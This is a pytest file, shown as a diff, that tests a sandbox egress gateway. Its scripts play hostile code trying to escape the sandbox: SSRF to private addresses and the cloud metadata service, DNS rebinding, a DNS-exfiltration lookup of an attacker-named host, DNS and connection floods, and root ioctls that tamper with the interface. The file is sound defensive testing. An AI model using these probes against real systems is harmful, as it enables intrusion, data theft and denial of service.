@@ -1,0 +1,240 @@
+"""Hostile code and the interface of its sandbox: the way out that needs no proxy."""
+
+from __future__ import annotations
+
+import asyncio
+
+import pytest
+
+from sandboxes.engine.egress.direct import address_book
+from tests.fixtures.waiting import until_async
+from tests.sandboxes.egress.town import echo, mirror
+from tests.sandboxes.engine.conftest import rooted, start, top
+from tests.sandboxes.link.conftest import full, street
+from tests.sandboxes.link.street import Street
+
+__all__ = ["full", "rooted", "start", "street", "top"]
+
+GET = """
+import socket, sys
+try:
+    with socket.create_connection((sys.argv[1], int(sys.argv[2])), 10) as s:
+        s.sendall(b"GET / HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % sys.argv[1].encode())
+        print(s.makefile("rb").read().decode("latin-1"))
+except OSError as error:
+    print(type(error).__name__, error)
+"""
+RAW = """
+import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
+s.sendto(bytes.fromhex(sys.argv[1]), ("198.18.0.1", 53))
+try: print(s.recv(2000).hex())
+except OSError as error: print(type(error).__name__)
+"""
+NOT_PUBLIC = {
+    "127.0.0.1": "an address of this machine", "10.0.0.1": "a private address",
+    "192.168.1.1": "a private address", "100.64.0.1": "a private address",
+    "169.254.169.254": "a metadata service of a cloud", "198.18.0.1": "a reserved address",
+    "::1": "an address of this machine", "::ffff:127.0.0.1": "an address of this machine",
+    "64:ff9b::a00:1": "a private address", "64:ff9b::a9fe:a9fe": "a metadata service of a cloud",
+    "fd00::1": "a private address", "2002:7f00:1::": "a reserved address",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("address", NOT_PUBLIC)
+async def test_a_name_that_leads_to_no_public_address_is_refused(street: Street, address: str):
+    street.town.names["trap.test"] = [address]
+    await street.open("internet")
+    said = await street.python(GET, "trap.test", "80")
+    assert f"trap.test leads to {NOT_PUBLIC[address]}" in said
+
+
+async def test_a_name_that_has_changed_its_mind_is_looked_at_again(street: Street):
+    """It led to a public address when the program asked."""
+    street.town.names["turn.test"] = ["203.0.113.7"]
+    await street.open("internet")
+    await street.python("import socket; socket.gethostbyname('turn.test')")
+    street.town.names["turn.test"] = ["127.0.0.1"]
+    street.town.gateway.dialler.resolver.forget()
+    assert "an address of this machine" in await street.python(GET, "turn.test", "80")
+
+
+@pytest.mark.parametrize("address", ["169.254.169.254", "10.0.0.1", "192.168.1.1", "198.18.9.9"])
+async def test_an_address_that_is_not_public_is_refused(street: Street, address: str):
+    await street.open("internet")
+    assert "HTTP/1.1 403" in await street.python(GET, address, "80")
+
+
+async def test_an_address_is_refused_where_only_names_are_allowed(street: Street):
+    street.town.names["good.test"] = ["203.0.113.7"]
+    await street.open({"allow": ["good.test"]})
+    said = await street.python(GET, "203.0.113.7", "80")
+    assert "203.0.113.7:80 is not allowed" in said
+
+
+async def test_the_address_of_a_name_that_nobody_asked_for_is_refused(street: Street):
+    await street.open("internet")
+    assert "stands for no name" in await street.python(GET, "198.19.200.200", "80")
+
+
+async def test_the_name_server_itself_offers_nothing_else(street: Street):
+    await street.open("internet")
+    assert "HTTP/1.1 403" in await street.python(GET, "198.18.0.1", "80")
+
+
+async def test_a_greeting_in_pieces_is_read_whole(street: Street):
+    """The name in it may lie across any number of packets."""
+    script = """
+import socket, ssl, sys, time
+memory_in, memory_out = ssl.MemoryBIO(), ssl.MemoryBIO()
+context = ssl._create_unverified_context()
+tls = context.wrap_bio(memory_in, memory_out, server_hostname=sys.argv[3])
+try: tls.do_handshake()
+except ssl.SSLWantReadError: pass
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 10)
+s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+for byte in memory_out.read(): s.sendall(bytes([byte]))
+print(s.recv(100).hex())
+"""
+    port = await street.town.site("good.test", mirror, tls=True)
+    await street.open()
+    assert (await street.python(script, "good.test", str(port), "good.test")).startswith("1603")
+    said = await street.python(script, "good.test", str(port), "neighbour.test")
+    assert said == "15030300020270"  # an alert: unrecognized name
+
+
+async def test_a_name_that_is_not_allowed_is_asked_of_nobody(street: Street):
+    """A question could carry what the sandbox knows to whoever answers for the name."""
+    await street.open({"allow": ["good.test"]})
+    await street.python("import socket; socket.gethostbyname('secret.attacker.test')")
+    assert street.town.lookups == []
+
+
+@pytest.mark.parametrize(
+    "data", ["c00c" * 8, "0007010000010000000000000000c00c00010001", "ff" * 600, "00" * 12, "00"]
+)
+async def test_the_name_server_goes_on_after_malformed_questions(street: Street, data: str):
+    street.town.names["good.test"] = ["203.0.113.7"]
+    await street.open("internet")
+    script = RAW.replace("s.settimeout(10)", "s.settimeout(0.2)")
+    await street.python(script, data)
+    name = "import socket; print(socket.gethostbyname('good.test'))"
+    assert (await street.python(name)).startswith("198.18.")
+
+
+async def test_a_name_server_over_tcp_is_not_held_by_who_says_nothing(street: Street):
+    street.town.names["good.test"] = ["203.0.113.7"]
+    await street.open("internet")
+    script = """
+import socket, struct
+idle = [socket.create_connection(("198.18.0.1", 53)) for _ in range(12)]
+question = bytes.fromhex("000701000001000000000000") + b"\\4good\\4test\\0\\0\\1\\0\\1"
+s = socket.create_connection(("198.18.0.1", 53), 10)
+s.sendall(struct.pack("!H", len(question)) + question)
+print(s.recv(2000)[-4:].hex())
+"""
+    assert (await street.python(script)).startswith("c612")
+
+
+async def test_a_flood_of_names_is_bounded(street: Street):
+    await street.open({"allow": ["good.test"]})
+    script = """
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for n in range(20000):
+    name = b"n%05d" % n
+    question = bytes.fromhex("000701000001000000000000") + b"\\6" + name + b"\\4evil\\0\\0\\1\\0\\1"
+    s.sendto(question, ("198.18.0.1", 53))
+"""
+    await street.python(script)
+    why = "more questions for names than are answered"
+    await until_async(lambda: ("sandbox", 53, why) in street.refusals())
+    assert len(street.town.gateway.outlets["box"].book) <= address_book.MOST_NAMES
+    assert len(street.town.decisions) < 200
+
+
+async def test_a_flood_of_connections_leaves_the_others_alone(street: Street):
+    port = await street.town.site("good.test", echo)
+    await street.open()
+    neighbour = await street.town.open(name="neighbour")
+    script = """
+import resource, socket, sys
+resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
+held = []
+for _ in range(1500):
+    s = socket.socket(); s.setblocking(False); s.connect_ex((sys.argv[1], int(sys.argv[2])))
+    held.append(s)
+print("open", flush=True)
+sys.stdin.read()
+"""
+    words = ("python3", "-c", script, socket_address(street, "good.test"), str(port))
+    with await asyncio.to_thread(street.box.begin, *words, stdin=True):
+        outlet = street.town.gateway.outlets["box"]
+        await until_async(lambda: outlet.connections >= 200)
+        status, _, writer = await street.town.tunnel(f"good.test:{port}", neighbour)
+        assert " 200 " in status
+        writer.close()
+        assert outlet.connections <= 256
+
+
+async def test_udp_goes_nowhere_and_it_is_told(street: Street):
+    await street.open("internet")
+    script = """
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
+s.connect(("203.0.113.7", 123)); s.send(b"time")
+try: s.recv(100)
+except OSError as error: print(type(error).__name__)
+"""
+    assert await street.python(script) == "ConnectionRefusedError"
+    why = "UDP is not carried, only TCP and questions for names"
+    await until_async(lambda: ("203.0.113.7", 123, why) in street.refusals())
+
+
+async def test_a_port_where_nothing_can_be_allowed_is_told(street: Street):
+    await street.open("internet")
+    assert "ConnectionRefusedError" in await street.python(GET, "203.0.113.7", "4444")
+    await until_async(lambda: ("203.0.113.7", 4444) in [r[:2] for r in street.refusals()])
+
+
+async def test_root_of_the_sandbox_cannot_change_the_interface(street: Street, rooted):
+    box = await asyncio.to_thread(rooted)
+    rooted_street = Street(street.town, box)
+    await rooted_street.open("internet")
+    script = """
+import fcntl, socket, struct
+tries = {
+    "down": lambda: fcntl.ioctl(socket.socket(), 0x8914, struct.pack("16sh14x", b"eth0", 0)),
+    "address": lambda: fcntl.ioctl(socket.socket(), 0x8916, struct.pack(
+        "16sHH4s16x", b"eth0", 2, 0, socket.inet_aton("198.18.0.9"))),
+    "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 6),
+    "packet": lambda: socket.socket(17, socket.SOCK_RAW, 0x300),
+    "route": lambda: open("/proc/sys/net/ipv4/conf/all/forwarding", "w").write("1"),
+}
+for name, attempt in tries.items():
+    try: attempt(); print(name, "worked")
+    except OSError: pass
+print("over")
+"""
+    ended, out, err = await asyncio.to_thread(box.run, "python3", "-c", script, sudo=True)
+    assert ended.code == 0, err
+    assert out.strip() == "over"
+
+
+async def test_root_of_the_sandbox_has_the_low_ports_to_itself(street: Street, rooted):
+    """Where the way out has its own at 80 and 443."""
+    box = await asyncio.to_thread(rooted)
+    await Street(street.town, box).open("internet")
+    script = """
+import socket
+for port in (53, 80, 443):
+    socket.create_server(("0.0.0.0", port)).close()
+print("free")
+"""
+    ended, out, err = await asyncio.to_thread(box.run, "python3", "-c", script, sudo=True)
+    assert (ended.code, out.strip()) == (0, "free"), err
+
+
+def socket_address(street: Street, name: str) -> str:
+    """The address that stands for a name, without a question."""
+    return str(street.town.gateway.outlets["box"].book.address_of(name))
